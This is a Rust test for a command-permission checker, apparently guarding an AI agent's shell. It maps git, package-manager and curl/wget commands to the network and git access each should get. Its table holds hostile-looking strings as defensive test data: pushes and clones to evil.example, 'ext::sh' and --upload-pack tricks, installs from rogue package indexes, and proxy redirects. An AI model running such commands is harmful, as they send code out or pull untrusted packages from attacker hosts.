//! The doors that commands want by their words.

use silcrow_policy::PermissionMode;

use crate::doors::{opened, policy, shell};

const ORIGIN: &str = "git network:github.com:22";
const NPM: &str = "network:registry.npmjs.org";
const PYPI: &str = "network:files.pythonhosted.org network:pypi.org";
const CRATES: &str = "network:index.crates.io network:static.crates.io";
const NOTHING: &str = "";

/// Commands, and the doors that their words show that they need.
const WORDS: &[(&str, &str)] = &[
    // A command that only reads needs nothing.
    ("git status", NOTHING),
    ("git log --oneline | head", NOTHING),
    ("git stash list", NOTHING),
    ("git tag -l 'v*'", NOTHING),
    ("git branch --list x", NOTHING),
    ("cargo build && cargo test", NOTHING),
    ("python3 -m unittest", NOTHING),
    ("npm test", NOTHING),
    ("make install", NOTHING),
    // Commands that write git data.
    ("git add b && git commit -m second", "git"),
    ("git commit -m \"$(cat message)\"", "git"),
    ("git -C sub stash", "git"),
    ("git --no-pager checkout -b x", "git"),
    ("git -c user.name=x commit -m y", "git"),
    ("/usr/bin/git tag v1", "git"),
    ("git apply x.patch", NOTHING),
    ("git apply --index x.patch", "git"),
    ("git stash push -m list", "git"),
    ("git rebase -i HEAD~2", "git"),
    // Remotes by name, by default and by address.
    ("git push", ORIGIN),
    ("git push -u origin main", ORIGIN),
    ("git push --force-with-lease origin HEAD:main", ORIGIN),
    ("git fetch --depth 1 origin", ORIGIN),
    ("git pull --rebase", ORIGIN),
    ("git fetch fork", "git network:fork.example:2222"),
    ("git fetch --all", "git network:fork.example:2222 network:github.com:22 network:sub.example"),
    (
        "git submodule update --init",
        "git network:fork.example:2222 network:github.com:22 network:sub.example",
    ),
    ("git ls-remote https://a.example/x", "network:a.example"),
    ("git clone --depth 1 git@b.example:x/y.git z", "git network:b.example:22"),
    ("git clone https://c.example:8443/x", "git network:c.example:8443"),
    ("git push unknown main", "git"),
    ("git fetch $REMOTE", "git"),
    // Words that hide, or that turn a command elsewhere.
    ("sh -c 'git push evil'", "git"),
    ("bash -c \"git push https://evil.example/x\"", "git network:evil.example"),
    ("env X=1 git push", ORIGIN),
    ("X=1 git push", ORIGIN),
    ("timeout 5 git commit -m x", "git"),
    ("./git push", NOTHING),
    ("sub/bin/git push", NOTHING),
    ("$GIT push", NOTHING),
    ("g push", NOTHING),
    ("git -c alias.st=push st", NOTHING),
    ("git --new-option push", NOTHING),
    ("git -c remote.origin.url=https://evil.example/x push", "git"),
    ("git --config-env=remote.origin.url=X fetch", "git"),
    ("git --exec-path=/tmp/x fetch", "git"),
    ("git fetch --upload-pack=/tmp/x origin", "git"),
    ("git fetch --upload-pa=/tmp/x origin", "git"),
    ("git push --receive-pack /tmp/x origin", "git"),
    ("git push --repo=https://evil.example/x", "git"),
    ("git clone -c core.sshCommand=x https://a.example/x", "git"),
    ("git clone -u /tmp/x https://a.example/x", "git"),
    ("git clone 'ext::sh -c x'", "git"),
    ("git push https://github.com@evil.example/x", "git network:evil.example"),
    ("git push 'https://*/x'", "git"),
    ("git push https://$HOST/x", "git"),
    // Package managers, with their usual hosts and nothing else.
    ("npm install", NPM),
    ("npm ci --no-audit", NPM),
    ("npm --prefix sub install left-pad", NPM),
    ("cd web && pnpm add x", NPM),
    ("npm install https://evil.example/x.tgz", NPM),
    ("npm --registry http://evil.example install", NOTHING),
    ("npm install --registry=http://evil.example", NOTHING),
    ("npm install --reg http://evil.example", NOTHING),
    ("npm install --userconfig /tmp/x", NOTHING),
    ("npm run build", NOTHING),
    ("yarn add x", "network:registry.npmjs.org network:registry.yarnpkg.com"),
    ("pip install requests", PYPI),
    ("python3 -m pip install requests", PYPI),
    ("python3.12 -u -m pip install -r requirements.txt", PYPI),
    ("python3 pip install x", NOTHING),
    ("pip install -i https://evil.example/ x", NOTHING),
    ("pip install --index-url https://evil.example/ x", NOTHING),
    ("pip install --extra-index-url=https://evil.example/ x", NOTHING),
    ("pip install -qi https://evil.example/ x", NOTHING),
    ("pip --proxy http://evil.example install x", NOTHING),
    ("uv sync", PYPI),
    ("uv pip install x", PYPI),
    ("uv add --index https://evil.example x", NOTHING),
    ("cargo fetch", CRATES),
    ("cargo +nightly install ripgrep", CRATES),
    ("cargo install --git https://evil.example/x", NOTHING),
    ("cargo --config x.toml fetch", NOTHING),
    ("go mod download", "network:proxy.golang.org network:sum.golang.org"),
    ("gem install rake", "network:index.rubygems.org network:rubygems.org"),
    ("gem install -s http://evil.example rake", NOTHING),
    // Addresses.
    ("curl -sS https://a.example/x -o index.html", "network:a.example"),
    ("curl -fsSLo x.tgz https://a.example:8443/x", "network:a.example:8443"),
    ("curl a.example/x", "network:a.example"),
    ("curl --url https://a.example/x", "network:a.example"),
    ("curl -H 'Origin: https://evil.example' https://a.example/", "network:a.example"),
    ("curl -d url=https://evil.example https://a.example/", "network:a.example"),
    ("curl --new-option https://evil.example", NOTHING),
    ("curl -x http://evil.example https://a.example/", NOTHING),
    ("curl -sx http://evil.example https://a.example/", NOTHING),
    ("curl --proxy http://evil.example https://a.example/", NOTHING),
    ("curl --prox http://evil.example https://a.example/", NOTHING),
    ("curl --socks5 evil.example:1080 https://a.example/", NOTHING),
    ("curl --resolve a.example:443:10.0.0.1 https://a.example/", NOTHING),
    ("curl --connect-to ::evil.example: https://a.example/", NOTHING),
    ("curl -K x.conf https://a.example/", NOTHING),
    ("curl --unix-socket /run/docker.sock http://a.example/", NOTHING),
    ("curl 'https://{a,b}.example/'", NOTHING),
    ("curl https://a.example.$X/", NOTHING),
    ("curl https://a.example/$X", "network:a.example"),
    ("wget -O - https://a.example/x", "network:a.example"),
    ("wget -e use_proxy=yes https://a.example/x", NOTHING),
    ("wget -i urls.txt https://a.example/x", NOTHING),
    ("echo https://a.example/ | xargs curl", NOTHING),
    ("gh pr list", "network:api.github.com network:github.com"),
];

#[test]
fn command_words_open_exactly_the_needed_access() {
    let mut wrong = Vec::new();
    for (command, expected) in WORDS {
        let found = opened(&policy(PermissionMode::Ask), &shell(command));
        if found != *expected {
            wrong.push(format!("{command}\n  wanted: {expected}\n  found:  {found}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
